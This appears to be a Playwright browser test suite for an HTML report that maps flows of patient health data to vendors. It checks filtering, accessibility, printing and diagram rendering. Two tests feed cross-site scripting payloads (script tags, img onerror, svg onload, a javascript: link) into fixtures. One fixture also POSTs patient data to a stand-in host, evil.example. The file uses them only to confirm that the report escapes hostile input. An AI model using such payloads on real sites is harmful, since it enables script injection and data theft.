/// <reference lib="dom" />
/** The page of the map in a real browser: it loads, filters, opens paths, prints, and nothing from the code runs in it. */
import { execFileSync } from 'node:child_process';
import { cpSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import path from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AnalysisResult } from '../../src/analysis.js';
import { compare } from '../../src/report/map-compare.js';
import { renderMapHtml } from '../../src/report/map-html.js';
import { renderMapMermaid } from '../../src/report/map-mermaid.js';
import {
  cleanedResult,
  evilResult,
  flow,
  largeResult,
  mapContext,
  mapResult,
  smallResult,
} from '../../src/report/testing/map-sample.js';
import { sampleFinding } from '../../src/report/testing/sample.js';
import { emptyFolder, phitrace, project, ROOT, TODAY } from '../e2e/command.js';
import { launch, SKIPPED } from './chromium.js';
import { open, violations } from './opened.js';

const require = createRequire(import.meta.url);
const MERMAID = path.join(path.dirname(require.resolve('mermaid')), 'mermaid.min.js');

declare const mermaid: {
  parse(text: string): Promise<unknown>;
  render(id: string, text: string): Promise<{ svg: string }>;
};

/** Nothing is short: hosts as vendors, models as sources, places of findings. */
function longNames(): AnalysisResult {
  const long = (what: string, n: number): string => `${what}-${n}.integration.production.clinical-exchange.example`;
  const flows = Array.from({ length: 20 }, (_, n) =>
    flow(
      { vendor: long('host', n), service: 'http', kind: n % 2 === 0 ? 'partner' : 'incidental' },
      {
        fingerprint: `f${n}`,
        phi: [...'ABCDEFGH'].map((letter) => ({
          ...{ letter, category: 'names', sensitive: null },
          via: `VeryLongResourceNameOfAModelNumber${n}.field`,
        })),
      },
    ),
  );
  const base = mapResult(flows, { partial: true });
  const findings = flows.map((f) =>
    sampleFinding({
      ...f,
      ruleId: 'model-call-without-audit',
      file: `packages/very/long/path/of/a/package/${f.fingerprint}/handler.ts`,
    }),
  );
  return { ...base, analysis: { ...base.analysis, findings }, details: { ...base.details, manifest: null } };
}

describe.skipIf(SKIPPED)('the page', () => {
  let browser: Browser;
  let folder = '';
  let clinic = '';
  beforeAll(async () => {
    browser = await launch();
    folder = emptyFolder();
    cpSync(path.join(ROOT, 'fixtures/clinic'), path.join(folder, 'clinic'), { recursive: true });
    clinic = path.join(folder, 'map.html');
    const options = ['--today', TODAY, '--format', 'html', '--output', 'map.html', '--quiet'];
    const ran = phitrace(['map', 'clinic', ...options], { cwd: folder });
    expect(ran.err).toBe('');
  }, 180_000);
  afterAll(() => browser.close());

  function written(result: AnalysisResult, context = mapContext()): string {
    const file = path.join(emptyFolder(), 'map.html');
    writeFileSync(file, renderMapHtml(result, context));
    return file;
  }

  it('loads from disk, asks for nothing, and answers the questions without scrolling', async () => {
    const { page, asked, complaints } = await open(browser, clinic);
    expect([asked, complaints]).toEqual([[], []]);
    expect(await page.locator('.answer').count()).toBe(6);
    const last = await page.locator('.answer').last().boundingBox();
    expect((last?.y ?? 9999) + (last?.height ?? 0)).toBeLessThan(720);
    expect(await page.locator('#map-folded [data-part].recipient').count()).toBeGreaterThan(20);
    await page.close();
  });

  it.each([
    ['a large company', largeResult(60, 2000)],
    ['long names, without a manifest and in part', longNames()],
  ])('answers without scrolling for %s, too', async (_what, result) => {
    const { page } = await open(browser, written(result, mapContext({ terms: null })), 1280, 720);
    for (const answer of await page.locator('.answer').all()) {
      const box = await answer.boundingBox();
      expect((box?.y ?? 9999) + (box?.height ?? 0)).toBeLessThan(720);
    }
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(1280);
    await page.close();
  });

  it.each([
    ['the clinic', null],
    ['a large company', largeResult(60, 2000)],
  ])('keeps the letters of each edge clear of its line (%s)', async (_what, result) => {
    const { page } = await open(browser, result === null ? clinic : written(result), 1280, 720);
    const uncovered = await page.locator('#map-folded g[data-of]').evaluateAll((labels) =>
      labels.flatMap((label) => {
        const [under, text] = [label.querySelector('rect'), label.querySelector('text')];
        if (under === null || text === null) return [label.outerHTML];
        const [paper, words] = [under.getBBox(), text.getBBox()];
        return words.x < paper.x || words.x + words.width > paper.x + paper.width ? [text.textContent] : [];
      }),
    );
    expect(uncovered).toEqual([]);
    await page.close();
  });

  it('filters by word, letter and trust', async () => {
    const { page } = await open(browser, clinic);
    const rows = page.locator('tr[data-flow]:visible');
    const all = await rows.count();
    await page.fill('#search', 'bedrock eu-central');
    expect(await page.textContent('#status')).toBe(`1 of ${all} flows shown`);
    expect(await rows.count()).toBe(1);
    expect(await page.locator('[data-part].recipient:not(.off)').count()).toBe(1);
    await page.fill('#search', '');
    await page.selectOption('#letter', 'G');
    expect(await rows.count()).toBe(1);
    await page.selectOption('#letter', '');
    for (const trust of ['own', 'covered', 'deidentified', 'unknown']) await page.uncheck(`input[value=${trust}]`);
    expect(await rows.count()).toBe(await page.locator('tr[data-flow]:has(.tag.uncovered)').count());
    await page.close();
  });

  it('goes from an edge to its flows, to the path with code and links', async () => {
    const { page } = await open(browser, clinic);
    await page.locator('[data-part].recipient', { hasText: 'Slack' }).first().click();
    const flows = page.locator('dialog details');
    expect(await flows.count()).toBe(4);
    await flows.first().locator('summary').click();
    const steps = flows.first().locator('.path li');
    await steps.first().waitFor();
    expect(await steps.count()).toBeGreaterThan(2);
    expect(await steps.first().locator('mark').count()).toBeGreaterThan(0);
    const href = (await steps.first().locator('a').getAttribute('href')) ?? '';
    // Opened where it was written, the page knows where the code lies, though no path of the machine stands in it.
    expect(href).toMatch(/^vscode:\/\/file\/.*\/clinic\/src\/.*\.ts:\d+:\d+$/);
    expect(href).toContain(folder);
    expect(readFileSync(clinic, 'utf8')).not.toContain(folder);
    await page.keyboard.press('Escape');
    expect(await page.locator('dialog[open]').count()).toBe(0);
    await page.close();
  });

  it('leads through a step that left nothing, with what it took out and the code that calls it', async () => {
    const { page } = await open(browser, clinic);
    const step = page.locator('#map-folded [data-part].process', { hasText: 'De-identified in full' });
    expect(await step.getAttribute('aria-label')).toMatch(
      /^De-identified in full removes A C \+ clinical by deidentifyChart/,
    );
    await step.click();
    const flows = page.locator('dialog details');
    expect(await flows.count()).toBe(1);
    expect(await flows.locator('dt', { hasText: 'Taken out by deidentifyChart' }).count()).toBe(1);
    expect(await flows.locator('.path li', { hasText: 'de-identified' }).locator('mark').textContent()).toContain(
      'deidentifyChart(chart)',
    );
    await page.keyboard.press('Escape');
    for (const trust of ['own', 'covered', 'uncovered', 'unknown']) await page.uncheck(`input[value=${trust}]`);
    expect(await page.locator('tr[data-flow]:visible').count()).toBe(1);
    expect(await page.locator('tr[data-flow]:visible').textContent()).toContain(
      'nothing left of A C + clinical, by deidentifyChart',
    );
    expect(await page.locator('#map-folded [data-part].recipient:not(.off)').count()).toBe(1);
    await page.close();
  });

  it('shows who gets de-identified data only, apart from who is not covered', async () => {
    const { page } = await open(browser, written(cleanedResult()));
    const group = page.locator('#map-folded text.heading.deidentified');
    expect(await group.textContent()).toBe('De-identified data only');
    expect(await page.locator('.counts li.deidentified').textContent()).toContain('3De-identified in full');
    const colours = await page
      .locator('#map-folded .edge .line')
      .evaluateAll((lines) =>
        lines.map((line) => [line.parentElement?.classList[1] ?? '', getComputedStyle(line).strokeDasharray].join(' ')),
      );
    expect(new Set(colours.filter((c) => /^(?:deidentified|uncovered)/.test(c))).size).toBeGreaterThan(1);
    expect(await violations(page)).toEqual([]);
    await page.close();
  });

  it('is used with the keyboard alone', async () => {
    const { page } = await open(browser, clinic);
    await page.focus('#map-folded');
    await page.keyboard.press('Tab');
    const first = await page.evaluate(() => document.activeElement?.getAttribute('aria-label'));
    expect(first).toMatch(/^Patient \d+ flows, source of /);
    await page.keyboard.press('ArrowDown');
    expect(await page.evaluate(() => document.activeElement?.getAttribute('aria-label'))).not.toBe(first);
    await page.keyboard.press('End');
    await page.keyboard.press('Enter');
    expect(await page.locator('dialog[open] details').count()).toBeGreaterThan(0);
    await page.keyboard.press('Escape');
    // The focus goes back to where it was.
    expect(await page.evaluate(() => document.activeElement?.classList.contains('edge'))).toBe(true);
    await page.close();
  });

  it.each(['light', 'dark'] as const)('has no violation that axe knows (%s)', async (colorScheme) => {
    for (const width of [1280, 390]) {
      const { page } = await open(browser, clinic, width);
      await page.emulateMedia({ colorScheme });
      expect(await violations(page)).toEqual([]);
      await page.locator('tr[data-flow] button').first().click();
      expect(await violations(page)).toEqual([]);
      await page.close();
    }
  });

  it('fits a narrow screen', async () => {
    const { page } = await open(browser, clinic, 390, 844);
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
    await page.locator('.narrow button').first().click();
    expect(await page.locator('dialog[open] details').count()).toBeGreaterThan(0);
    await page.close();
  });

  it('prints the answers and the map on one landscape page, the tables after it', async () => {
    const { page } = await open(browser, clinic);
    await page.fill('#search', '');
    await page.emulateMedia({ media: 'print' });
    // The printable area of A4 landscape at 96 dots an inch.
    await page.setViewportSize({ width: 1054, height: 725 });
    const legend = await page.locator('.legend').boundingBox();
    expect((legend?.y ?? 9999) + (legend?.height ?? 0)).toBeLessThan(725);
    const pdf = await page.pdf({ preferCSSPageSize: true, printBackground: true });
    const text = pdf.toString('latin1');
    // Letter, the paper of the United States, landscape.
    expect(text).toMatch(/\/MediaBox \[0 0 792(?:\.\d+)? 612(?:\.\d+)?\]/);
    expect((text.match(/\/Type \/Page\b/g) ?? []).length).toBeGreaterThan(2);
    await page.close();
  });

  it('leads to the repository at the commit when that is known', async () => {
    const dir = path.join(emptyFolder(), 'app');
    cpSync(path.join(ROOT, 'fixtures/clinic'), dir, { recursive: true });
    const git = (...args: string[]): string =>
      execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t.example', ...args], {
        cwd: dir,
        encoding: 'utf8',
      });
    git('init', '-q');
    git('remote', 'add', 'origin', 'git@github.com:harbor/clinic.git');
    git('add', 'package.json');
    git('commit', '-q', '-m', 'first');
    const commit = git('rev-parse', 'HEAD').trim();
    for (const command of ['map', 'check']) {
      const file = path.join(dir, `${command}.html`);
      phitrace([command, dir, '--today', TODAY, '--format', 'html', '--output', file, '--quiet'], {
        env: { GITHUB_SHA: '', CI_COMMIT_SHA: '' },
      });
      const { page } = await open(browser, file);
      if (command === 'map') await page.locator('tr[data-flow] button').first().click();
      const first = page.locator('a', { hasText: 'repository' }).first();
      const href = (await first.getAttribute('href')) ?? '';
      expect(href).toMatch(new RegExp(`^https://github\\.com/harbor/clinic/blob/${commit}/\\S+#L\\d+$`));
      await page.close();
    }
  });

  it('filters by kind of recipient', async () => {
    const { page } = await open(browser, clinic);
    await page.selectOption('#kind', 'incidental');
    const shown = await page.locator('tr[data-flow]:visible').allTextContents();
    expect(shown.some((row) => row.includes('Sentry'))).toBe(true);
    expect(shown.filter((row) => /Pinecone|transcribe/.test(row))).toEqual([]);
    await page.close();
  });

  it('shows the scorecard, the registry with its dates and what was not analysed', async () => {
    const { page } = await open(browser, clinic);
    const titles = await page.locator('section.appendix h2').allTextContents();
    expect(titles).toEqual([
      'BAA registry',
      'Agreements that the manifest declares',
      'De-identification',
      'PHI by Safe Harbor letter',
      'Findings by rule',
      'Readiness card',
      'What was not analysed',
      'What rests on each agreement',
      'Every flow',
    ]);
    expect(await page.locator('section[aria-labelledby=scorecard] tbody tr').count()).toBe(25);
    const pinecone = page.locator('section[aria-labelledby=registry] tr', { hasText: 'Pinecone' });
    expect(await pinecone.locator('.date').allTextContents()).toEqual(['2026-01-15', '2027-01-14', '2026-07-20']);
    await page.close();
  });

  it('says what changed since an older map', async () => {
    const now = smallResult();
    const old = { ...now.analysis, flows: now.analysis.flows.slice(1), cleanings: null };
    const { page } = await open(browser, written(now, mapContext({ changes: compare(now.analysis, old) })));
    expect(await page.locator('section[aria-labelledby=changes]').textContent()).toMatch(
      /New recipients: openai\/chat-completions/,
    );
    await page.close();
  });

  it('lets nothing from the scanned code run', async () => {
    const context = mapContext({
      terms: { organization: '</title><script>window.hacked=1</script>', agreements: [], deidentifiers: [] },
      repository: 'javascript:hacked()//',
    });
    const { page, asked, complaints } = await open(browser, written(evilResult(), context));
    await page.locator('tr[data-flow] button').first().click();
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    expect(await page.locator('img, iframe, object, embed, link').count()).toBe(0);
    expect(await page.locator('script').count()).toBe(2);
    expect(await page.locator('a[href^=javascript]').count()).toBe(0);
    expect([asked, complaints]).toEqual([[], []]);
    expect(await violations(page)).toEqual([]);
    await page.close();
  });

  it('stands a project that attacks it', async () => {
    const dir = project({
      'package.json': '{"name":"</script><script>window.hacked=1</script>","dependencies":{"openai":"^6.0.0"}}',
      'baa.yaml': 'version: 1\norganization: "<img src=x onerror=window.hacked=1>"\n',
      'src/"><img src=x onerror=window.hacked=1>.ts': `import type { Patient } from 'fhir/r4';
import OpenAI from 'openai';
const openai = new OpenAI();
export async function summarise(patient: Patient): Promise<void> {
  await openai.responses.create({ model: '</script><script>window.hacked=1</script>', input: \`<img src=x onerror=window.hacked=1> \${JSON.stringify(patient)} 123-45-6789\` });
  await fetch('https://evil.example/?<svg/onload=window.hacked=1>', { method: 'POST', body: JSON.stringify(patient) });
}
`,
    });
    mkdirSync(path.join(dir, 'out'));
    const file = path.join(dir, 'out/map.html');
    const ran = phitrace(['map', dir, '--today', TODAY, '--format', 'html', '--output', file]);
    expect(ran.status).toBe(0);
    const { page, asked, complaints } = await open(browser, file);
    expect(await page.locator('tr[data-flow]').count()).toBe(2);
    await page.locator('tr[data-flow] button').first().click();
    await page.locator('dialog summary').first().click();
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    expect([asked, complaints]).toEqual([[], []]);
    expect(await page.locator('img').count()).toBe(0);
    expect(readFileSync(file, 'utf8')).not.toContain('123-45-6789');
    await page.close();
  });

  it('holds 60 recipients and 2,000 flows', async () => {
    const file = written(largeResult(60, 2000));
    expect(readFileSync(file).length).toBeLessThan(5_000_000);
    const { page } = await open(browser, file);
    expect(await page.locator('#map-folded [data-part].recipient').count()).toBeLessThanOrEqual(30);
    await page.click('#unfold');
    expect(await page.locator('#map-whole [data-part].recipient:visible').count()).toBe(60);
    await page.fill('#search', 'vendor-07');
    expect(await page.textContent('#status')).toMatch(/^\d+ of 2000 flows shown$/);
    await page.locator('#map-whole [data-part].recipient:not(.off)').first().click();
    expect(await page.locator('dialog details').count()).toBeGreaterThan(0);
    await page.close();
  });

  it('is a page without any flow, too', async () => {
    const { page, complaints } = await open(browser, written(mapResult([]), mapContext({ terms: null })));
    expect(await page.textContent('main')).toContain('No flow of PHI to a recipient was seen.');
    expect(complaints).toEqual([]);
    expect(await violations(page)).toEqual([]);
    await page.close();
  });

  it('draws what GitHub can draw: mermaid itself reads the diagrams', async () => {
    const page = await browser.newPage();
    await page.goto('about:blank');
    await page.addScriptTag({ path: MERMAID });
    for (const result of [smallResult(), cleanedResult(), evilResult(), mapResult([]), largeResult(60, 2000)]) {
      const text = renderMapMermaid(result, mapContext());
      expect(text.length).toBeLessThan(50_000);
      const svg = await page.evaluate(async (diagram) => {
        await mermaid.parse(diagram);
        return (await mermaid.render('d', diagram)).svg;
      }, text);
      expect(svg).toMatch(/^<svg/);
      expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    }
    await page.close();
  });
});
